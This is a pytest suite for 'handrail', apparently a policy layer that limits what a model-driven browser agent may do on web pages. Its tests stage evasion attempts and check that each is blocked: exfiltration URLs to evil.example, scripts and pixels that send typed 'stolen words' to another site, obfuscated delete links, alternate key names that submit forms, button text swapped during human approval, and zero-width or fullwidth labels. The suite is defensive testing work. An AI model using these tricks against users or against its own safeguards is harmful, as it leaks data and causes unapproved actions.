"""Ways around the rules that were tried in real pages by someone who knows them: each is shut."""

from __future__ import annotations

from typing import Any

import pytest

from handrail import Session
from handrail.browser.actions.actions import PlaywrightActions
from handrail.policy import Ask
from tests.calls.test_pipeline_policy import as_model, refs
from tests.pages import PageServer
from tests.tools.acting import ref

LEAVES = "<script>const tell = (v) => fetch('/hit?v=' + encodeURIComponent(v));</script>"
"""A page that tells its server whatever happens in it, by GET."""


def posted(serve: PageServer) -> list[str]:
    return [request.path for request in serve.requests if request.method != "GET"]


async def test_a_key_by_any_of_its_names_presses_what_it_presses(session: Session, serve: PageServer):
    page = serve("<form method=post action=/buy><button>Buy now</button></form>")
    session.permissions.origins.add(serve.origin)
    await session.call("goto", url=page)
    session.permissions = type(session.permissions).of([serve.origin], [f"press@{serve.origin}"])
    buy = (await refs(session))["Buy now"]
    for key in ("Return", "return", "ENTER", "Control+Enter", "Shift+Return", "spacebar", " "):
        assert not await as_model(session, "send_keys", ref=buy, keys=key), key
    for key in ("esc", "down", "SHIFT+TAB", "pgdn"):
        assert await as_model(session, "send_keys", keys=key), "it only moves"
    assert posted(serve) == []


async def test_the_form_of_the_field_behind_a_wrapper_is_judged(session: Session, serve: PageServer):
    button, wrapped = "<button>Delete my account</button>", "<form method=post action=/saved>FIELD BUTTON</form>"
    fields = ("<div id=b><input name=a></div>", "<div id=c contenteditable aria-multiline=true role=textbox>x</div>")
    page = "<div id=a><input form=f name=a></div><form id=f method=post action=/saved>BUTTON</form>"
    page += "".join(wrapped.replace("FIELD", field) for field in fields)
    session.provenance.words.add_text("My name is Ada Lovelace")
    await session.call("goto", url=serve(page.replace("BUTTON", button)))
    for name in "abc":
        it = await ref(session, f"#{name}")
        assert not await as_model(session, "fill", ref=it, value="Ada Lovelace", submit=True), name
    assert posted(serve) == []


SPELLED = [
    "https://evil.example/?d=%41lice", "https://evil.example/?d=a+b", "https://EVIL.example:443/x/../?d=secret",
    "https://évil.example/?d=secret", "see https://evil.example/?d=a%2520b and more",
]  # fmt: skip


async def test_an_address_that_a_model_wrote_is_no_link_however_it_is_spelled(session: Session, serve: PageServer):
    await session.call("goto", url=serve("<input type=search aria-label=Find><a id=out href=#>out</a>"))
    for typed in SPELLED:
        assert await as_model(session, "fill", ref=(await refs(session))["Find"], value=typed)
        await session.tab.page.evaluate(
            "() => { const url = document.querySelector('input').value.replace('see ', '').replace(' and more', '');"
            " document.links[0].href = url; document.links[0].textContent = document.links[0].href }"
        )
        await session.call_as("model", "read_page")
        shown = await session.tab.page.evaluate("document.links[0].href")
        assert not await as_model(session, "goto", url=shown), typed


DELETING = [
    "/pages/7/delete", "/posts/delete/42", "/delete.php?id=1", "/pages?mode=delete", "/pages/del%65te/7",
    "/pages?action=trash", "/api/deletePage", "/go?to=%2Fpages%2Fdelete%2F7",
]  # fmt: skip


async def test_an_address_that_deletes_is_asked_for_as_its_link_is(session: Session, serve: PageServer):
    gone = [serve("<h1>Gone</h1>", path.partition("?")[0]) + path[len(path.partition("?")[0]) :] for path in DELETING]
    await session.call("goto", url=serve("".join(f"<a href='{url}'>Delete this page</a>" for url in gone)))
    for at, url in enumerate(gone, 1):
        assert not await as_model(session, "click", ref=await ref(session, f"a:nth-child({at})")), url
        assert not await as_model(session, "goto", url=url), url
        assert not await as_model(session, "new_tab", url=url), url
    for url in gone:
        session.provenance.words.add_text(f"open {url}")
        assert await as_model(session, "goto", url=url), url


MENU = """<button aria-haspopup=menu aria-controls=m aria-expanded=false onclick="m.hidden = false">More</button>
<div role=menu id=m hidden><div role=menuitem tabindex=-1 data-value=d onclick="fetch('/d', {method: 'POST'})">Delete
account</div><div role=menuitem tabindex=-1 onclick="m.hidden = true">Rename</div></div>"""


@pytest.mark.parametrize("value", ["Delete account", "delete ACCOUNT", "d"])
async def test_choosing_in_a_menu_is_pressing_what_stands_there(session: Session, serve: PageServer, value: str):
    await session.call("goto", url=serve(MENU))
    more = (await refs(session))["More"]
    # A list that does not open in time, on a busy machine, fails as well as one that may not be chosen from.
    assert not (await session.call_as("model", "select", ref=more, values=value)).ok
    assert posted(serve) == []


async def test_a_harmless_choice_in_a_menu_is_free(session: Session, serve: PageServer):
    await session.call("goto", url=serve(MENU))
    assert (await session.call_as("model", "select", ref=(await refs(session))["More"], values="Rename")).ok


async def test_a_switch_does_at_once_what_it_says(session: Session, serve: PageServer):
    switch = "<div role=switch aria-checked=false tabindex=0 onclick=\"fetch('/s', {{method: 'POST'}})\">{}</div>"
    names = ("Make public", "Delete everything")
    await session.call("goto", url=serve("".join(map(switch.format, names))))
    at = await refs(session)
    for name in names:
        for tool in ("check", "click"):
            assert not await as_model(session, tool, ref=at[name]), (name, tool)
    assert posted(serve) == []


COMBO = (
    LEAVES
    + """<input role=combobox aria-label=Find aria-controls=l aria-expanded=true oninput="tell(this.value)">
<ul role=listbox id=l><li role=option>Alpha</li></ul>"""
)


async def test_a_choice_that_is_not_there_is_not_typed_on_another_origin(session: Session, serve: PageServer):
    await session.call("goto", url=serve(f'<a href="{serve.other_site}/there">There</a>'))
    serve(COMBO, "/there")
    await session.call_as("model", "click", ref=(await refs(session))["There"])
    result = await session.call_as("model", "select", ref=(await refs(session))["Find"], values="stolen words")
    assert not result.ok
    assert not any("stolen" in request.path for request in serve.requests)


async def test_a_script_does_not_send_the_form_that_another_act_filled(session: Session, serve: PageServer):
    page = """<form id=f method=post action=/saved><input type=search name=a aria-label=Find></form>
    <button onclick="f.submit()">Continue</button><a href="#" onclick="f.submit()">Onwards</a>"""
    await session.call("goto", url=serve(page))
    at = await refs(session)
    assert await as_model(session, "fill", ref=at["Find"], value="not your words")
    for name in ("Continue", "Onwards"):
        result = await session.call_as("model", "click", ref=at[name])
        assert result.code == "not_permitted"
        assert posted(serve) == [], name


async def test_keys_one_at_a_time_are_a_text_too(session: Session, serve: PageServer):
    page = """<form method=post action=/saved><input name=a aria-label=A><input name=b aria-label=B>
    <button>OK</button></form>"""
    session.provenance.words.add_text("My name is Ada Lovelace")
    await session.call("goto", url=serve(page))
    session.permissions = type(session.permissions).of([serve.origin], [f"press@{serve.origin}"])
    at = await refs(session)
    for key in "evil":
        assert await as_model(session, "send_keys", ref=at["A"], keys=key)
    assert await as_model(session, "fill", ref=at["B"], value="Ada Lovelace")
    assert not await as_model(session, "click", ref=at["OK"])


async def test_what_an_act_wrote_counts_although_the_act_failed(session: Session, serve: PageServer):
    page = """<form method=post action=/saved><input type=search name=a aria-label=A oninput="alert(1)">
    <input name=b aria-label=B><button>OK</button></form>"""
    session.provenance.words.add_text("My name is Ada Lovelace")
    await session.call("goto", url=serve(page))
    at = await refs(session)
    await session.call_as("model", "fill", ref=at["A"], value="x=1")
    await session.call_as("model", "dialog", accept=False)
    assert await as_model(session, "fill", ref=at["B"], value="Ada Lovelace")
    assert not await as_model(session, "click", ref=at["OK"])


async def test_what_is_approved_is_what_is_done(session: Session, serve: PageServer):
    """While a person thinks, the page makes another control of the one that was asked about."""
    page = "<form method=post action=/saved><input type=hidden name=a value=1><button id=b>Remove</button></form>"
    await session.call("goto", url=serve(page))
    asked: list[Ask] = []

    async def approve(question: Ask) -> bool:
        asked.append(question)
        await session.tab.page.evaluate("b.textContent = 'Save, and delete all'; b.formAction = '/delete'")
        return True

    session.approve = approve
    result = await session.call_as("model", "click", ref=(await refs(session))["Remove"])
    assert result.code in ("page_changed", "stale_ref")
    assert len(asked) == 1
    assert posted(serve) == []


async def test_a_name_is_read_as_it_is_seen(session: Session, serve: PageServer):
    for name in ("Lö&shy;schen", "De&#8203;lete", "Ｄｅｌｅｔｅ", "Place your order", "Cancel my subscription"):
        await session.call("goto", url=serve(f"<form method=post action=/x><button id=b name=a>{name}</button></form>"))
        session.permissions = type(session.permissions).of([serve.origin], [f"submit@{serve.origin}"])
        assert not await as_model(session, "click", ref=await ref(session, "#b")), name


async def test_a_link_in_a_drawing_is_judged_like_another(session: Session, serve: PageServer):
    page = "<svg width=90 height=90><a href='/other' aria-label=Drawn><rect width=90 height=90 /></a></svg>"
    serve("<h1>Other</h1>", "/other")
    await session.call("goto", url=serve(page))
    result = await session.call_as("model", "click", ref=await ref(session, "svg a"))
    assert result.ok, result.error
    assert session.tab.url.raw.endswith("/other")


async def test_what_a_model_made_up_does_not_leak_when_its_page_is_loaded_again(session: Session, serve: PageServer):
    pixel = f"{serve.other_site}/pixel"
    page = f"""<input type=search aria-label=Find><img id=i><button onclick="i.src = '{pixel}?c=' + location.search">
    More</button><script>i.src = '{pixel}?p=' + location.search</script>"""
    url = serve(page, "/search")
    serve("<h1>Start</h1>", "/start")
    await session.call("goto", url=serve.origin + "/start")
    assert await as_model(session, "goto", url=url + "?q=stolen-words")
    none: dict[str, Any] = {}
    for tool, params in (("reload", none), ("back", none), ("forward", none)):
        assert (await session.call_as("model", tool, **params)).ok
    assert (await session.call_as("model", "click", ref=(await refs(session))["More"])).ok
    assert [request.path for request in serve.requests if "pixel" in request.path and "stolen" in request.path] == []


async def test_what_a_busy_page_makes_of_a_key_that_it_did_not_take_in_time_is_held(
    session: Session, serve: PageServer
):
    page = """<button onkeydown="const end = Date.now() + 2500; while (Date.now() < end);"
    onclick="fetch('/late', {method: 'DELETE'})">OK</button>"""
    await session.call("goto", url=serve(page))
    ok = (await refs(session))["OK"]
    session.tab.actions = PlaywrightActions(session.tab.core, patience=0.5)
    async with session.tab.page.expect_event("requestfailed"):
        assert (await session.call_as("model", "enter", ref=ok)).code == "timeout"
    assert posted(serve) == []


async def test_what_a_model_typed_is_not_leaked_by_scripts(session: Session, serve: PageServer):
    page = f"""<input type=search aria-label=Find id=it oninput="tell()"><button onclick="tell()">More</button>
    <script>const tell = () => fetch('{serve.other_site}/pixel?q=' + it.value, {{ mode: 'no-cors' }})</script>"""
    await session.call("goto", url=serve(page))
    at = await refs(session)
    for act in ({"tool": "fill", "ref": at["Find"], "value": "stolen words"}, {"tool": "click", "ref": at["More"]}):
        result = await session.call_as("model", act.pop("tool"), **act)
        assert "stopped_requests" in result.followed
    session.provenance.words.add_text(f"Find a kettle at {session.tab.url.raw}")
    assert await as_model(session, "goto", url=session.tab.url.raw)
    assert (await session.call_as("model", "fill", ref=(await refs(session))["Find"], value="kettle")).ok
    assert [request.path for request in serve.requests if "pixel" in request.path] == ["/pixel?q=kettle"]


async def test_a_page_that_a_run_goes_on_with_may_have_been_made_up(session: Session, serve: PageServer):
    pixel = f"<img id=i><script>i.src = '{serve.other_site}/pixel?p=' + location.search</script>"
    url = serve(pixel, "/search") + "?q=stolen-words"
    session.permissions.open(serve.origin)
    assert await session.return_to(url)
    assert not any("pixel" in request.path for request in serve.requests)
    session.provenance = type(session.provenance)()
    session.provenance.words.add_text(f"Look at {url}")
    assert await session.return_to(url)
    assert any("pixel" in request.path for request in serve.requests)


CHAT = """<form id=f><textarea name=a aria-label=Comment></textarea><input name=b aria-label=Note>
<input aria-label=Search><button>NAME</button></form><script>f.addEventListener('submit', (event) => {
  event.preventDefault(); fetch('/said', { method: 'POST', body: f.elements.a.value + f.elements.b.value });
})</script>"""
"""A form as scripts send it: HTML takes it for one that only asks."""


async def test_a_form_that_a_script_sends_goes_off_with_no_words_but_the_users(session: Session, serve: PageServer):
    session.provenance.words.add_text("Comment that Ada Lovelace was here, and find a kettle")
    await session.call("goto", url=serve(CHAT.replace("NAME", "Send")))
    at = await refs(session)
    assert await as_model(session, "fill", ref=at["Comment"], value="not your words")
    assert not await as_model(session, "fill", ref=at["Note"], value="not your words", submit=True)
    assert await as_model(session, "fill", ref=at["Search"], value="copper kettles")
    assert not await as_model(session, "click", ref=at["Send"])
    assert not await as_model(session, "enter", ref=at["Note"])
    assert posted(serve) == []
    session.provenance.words.add_text(f"Write that at {session.tab.url.raw}")
    assert await as_model(session, "goto", url=session.tab.url.raw)
    at = await refs(session)
    assert await as_model(session, "fill", ref=at["Comment"], value="Ada Lovelace was here")
    assert not await as_model(session, "click", ref=at["Send"]), "a draft may have kept what was written before"
    session.state.agree_to_send(session.state.unsent_on(serve.origin), serve.origin)
    assert await as_model(session, "click", ref=at["Send"])
    assert posted(serve) == ["/said"]


async def test_elsewhere_such_a_form_is_searched_with_the_users_words_and_only_asks(
    session: Session, serve: PageServer
):
    session.provenance.words.add_text("Find Ada Lovelace there")
    serve(CHAT.replace("NAME", "Submit"), "/there")
    await session.call("goto", url=serve(f'<a href="{serve.other_site}/there">There</a>'))
    await session.call_as("model", "click", ref=(await refs(session))["There"])
    note = (await refs(session))["Note"]
    assert await as_model(session, "fill", ref=note, value="Ada Lovelace", submit=True)
    assert not await as_model(session, "fill", ref=note, value="not your words")
    assert posted(serve) == []


async def test_what_is_called_harmless_deletes_nothing_by_script(session: Session, serve: PageServer):
    page = """<script>const hit = () => fetch('/x', {method: 'DELETE'})</script>
    <form onsubmit='hit(); return false'><button>OK</button></form>
    <select onchange='hit()'><option>A<option>B</select><input type=checkbox onchange='hit()'>"""
    await session.call("goto", url=serve(page))
    given = {"values": "B"}
    for kind, tool in (("button", "click"), ("select", "select"), ("input", "check"), ("input", "click")):
        params = given if tool == "select" else {}
        result = await session.call_as("model", tool, ref=await ref(session, kind), **params)
        assert "stopped_requests" in result.followed, (kind, tool)
    assert posted(serve) == []
